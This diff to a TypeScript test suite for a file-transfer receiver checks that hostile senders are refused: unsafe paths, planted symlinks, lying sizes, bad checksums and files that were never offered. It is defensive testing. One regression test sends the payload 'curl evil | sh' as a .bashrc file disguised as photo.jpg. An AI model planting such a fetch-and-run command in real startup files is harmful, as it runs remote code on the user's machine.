@@ -62,8 +62,8 @@ async function hostile(script: Step[], outDir: string): Promise<unknown> {
   return outcome;
 }
 
-const offer = (totalFiles: number, totalBytes: number): Step => ({
-  msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles, totalBytes, names: ['x'] },
+const offer = (names: string[], totalBytes: number): Step => ({
+  msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles: names.length, totalBytes, names },
 });
 const file = (path: string, size: number): Step => ({ msg: { type: 'file', path, size, mode: 0o644, mtime: Date.now() } });
 const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
@@ -86,25 +86,25 @@ for (const name of unsafeNames) {
   test(`refuses the file name ${JSON.stringify(name)}`, async () => {
     const { out, elsewhere } = await fresh(`name-${randomBytes(4).toString('hex')}`);
     const data = Buffer.from('payload');
-    const e = await hostile([offer(1, data.length), file(name, data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }], out);
+    const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }], out);
     assertCode(e, 'ERR_UNSAFE_PATH');
     assert.deepEqual(await readdir(out), []);
     assert.deepEqual(await readdir(elsewhere), []);
   });
 }
 
-test('refuses to write through a symlink planted in the output folder', async () => {
+test('refuses a path into a symlink planted in the output folder', async () => {
   const { out, elsewhere } = await fresh('symlink');
   await symlink(elsewhere, join(out, 'link'));
   const data = Buffer.from('payload');
-  const e = await hostile([offer(1, data.length), file('link/x', data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }], out);
+  const e = await hostile([offer(['link/x'], data.length), file('link/x', data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }], out);
   assertCode(e, 'ERR_UNSAFE_PATH');
   assert.deepEqual(await readdir(elsewhere), []);
 });
 
 test('a size that lies (more data than announced) is refused before it is written', async () => {
   const { out } = await fresh('size-more');
-  const e = await hostile([offer(1, 4), file('a.txt', 4), { data: Buffer.from('12345678') }], out);
+  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data: Buffer.from('12345678') }], out);
   assertCode(e, 'ERR_PROTOCOL');
   assert.deepEqual((await readdir(out)).filter((n) => !n.endsWith('.partial')), []);
 });
@@ -112,7 +112,7 @@ test('a size that lies (more data than announced) is refused before it is writte
 test('a size that lies (less data than announced) is refused at the file end', async () => {
   const { out } = await fresh('size-less');
   const data = Buffer.from('12');
-  const e = await hostile([offer(1, 4), file('a.txt', 4), { data }, { msg: { type: 'file-end', sha256: sha(data) } }], out);
+  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data }, { msg: { type: 'file-end', sha256: sha(data) } }], out);
   assertCode(e, 'ERR_PROTOCOL');
   assert.ok(!(await readdir(out)).includes('a.txt'));
 });
@@ -120,20 +120,20 @@ test('a size that lies (less data than announced) is refused at the file end', a
 test('more files or bytes than offered are refused', async () => {
   const { out } = await fresh('counts');
   const d = Buffer.from('ab');
-  const e1 = await hostile([offer(1, 4), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, file('b', 2)], out);
+  const e1 = await hostile([offer(['a'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, file('b', 2)], out);
   assertCode(e1, 'ERR_PROTOCOL');
   const { out: out2 } = await fresh('bytes');
-  const e2 = await hostile([offer(2, 3), file('a', 4)], out2);
+  const e2 = await hostile([offer(['a', 'b'], 3), file('a', 4)], out2);
   assertCode(e2, 'ERR_PROTOCOL');
   const { out: out3 } = await fresh('fewer');
-  const e3 = await hostile([offer(2, 2), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, { msg: { type: 'done' } }], out3);
+  const e3 = await hostile([offer(['a', 'b'], 2), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, { msg: { type: 'done' } }], out3);
   assertCode(e3, 'ERR_PROTOCOL');
 });
 
 test('a wrong checksum leaves nothing under the final name', async () => {
   const { out } = await fresh('checksum');
   const data = Buffer.from('real data');
-  const e = await hostile([offer(1, data.length), file('a.txt', data.length), { data }, { msg: { type: 'file-end', sha256: sha(Buffer.from('other')) } }], out);
+  const e = await hostile([offer(['a.txt'], data.length), file('a.txt', data.length), { data }, { msg: { type: 'file-end', sha256: sha(Buffer.from('other')) } }], out);
   assertCode(e, 'ERR_INTEGRITY');
   assert.deepEqual(await readdir(out), []);
 });
@@ -141,16 +141,31 @@ test('a wrong checksum leaves nothing under the final name', async () => {
 test('the same name twice is refused', async () => {
   const { out } = await fresh('dupe');
   const d = Buffer.from('ab');
-  const e = await hostile([offer(2, 4), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, file('a', 2)], out);
+  const e = await hostile([offer(['a', 'b'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, file('a', 2)], out);
   assertCode(e, 'ERR_PROTOCOL');
 });
 
 test('a sender that stops mid-file: connection lost, partial data only under a temporary name', async () => {
   const { out } = await fresh('cut');
-  const e = await hostile([offer(1, 100), file('a.txt', 100), { data: Buffer.alloc(50, 1) }, { cut: true }], out);
+  const e = await hostile([offer(['a.txt'], 100), file('a.txt', 100), { data: Buffer.alloc(50, 1) }, { cut: true }], out);
   assert.ok(e instanceof TscCrocError);
   assert.equal(e.code, 'ERR_CONNECTION_LOST', e.message);
   const names = await readdir(out);
   assert.ok(!names.includes('a.txt'));
   assert.ok(names.every((n) => n.endsWith('.partial')));
+});
+
+test('regression: a file that was not offered is refused (an offer of "photo.jpg" cannot write .bashrc)', async () => {
+  const { out } = await fresh('not-offered');
+  const evil = Buffer.from('curl evil | sh');
+  const e = await hostile([offer(['photo.jpg'], evil.length), file('.bashrc', evil.length), { data: evil }, { msg: { type: 'file-end', sha256: sha(evil) } }], out);
+  assertCode(e, 'ERR_PROTOCOL');
+  assert.deepEqual(await readdir(out), []);
+});
+
+test('an offer must name every file, once, as plain names', async () => {
+  const { out } = await fresh('offer-shape');
+  assertCode(await hostile([{ msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles: 2, totalBytes: 2, names: ['a'] } }], out), 'ERR_PROTOCOL');
+  assertCode(await hostile([offer(['a', 'a'], 2)], out), 'ERR_PROTOCOL');
+  assertCode(await hostile([offer(['dir/a'], 2)], out), 'ERR_UNSAFE_PATH');
 });
